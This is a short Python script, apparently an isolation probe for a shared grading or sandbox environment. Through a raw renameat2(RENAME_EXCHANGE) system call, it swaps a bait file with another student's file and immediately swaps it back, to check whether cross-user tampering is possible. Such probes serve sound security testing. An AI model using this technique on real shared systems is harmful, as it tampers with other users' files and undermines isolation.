"""Exchanges its own file with another student's by renameat2(RENAME_EXCHANGE), and at once back."""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def c(number, *args):
    """Make one raw system call; raise OSError where it fails."""
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in args]
    result = LIBC.syscall(ctypes.c_long(number), *words)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack():
    for place in (TARGETS["neighbour_folder"], TARGETS["open_folder"], "."):
        mine = os.path.join(place, f"bait-{os.getpid()}")
        try:
            with open(mine, "w") as file:
                file.write("x")
        except OSError:
            continue
        swap = (316, -100, mine.encode(), -100, TARGETS["neighbour"].encode(), 2)
        try:
            c(*swap)
            c(*swap)
            return "the neighbour's file was exchanged, and back"
        except OSError:
            continue
        finally:
            os.unlink(mine)
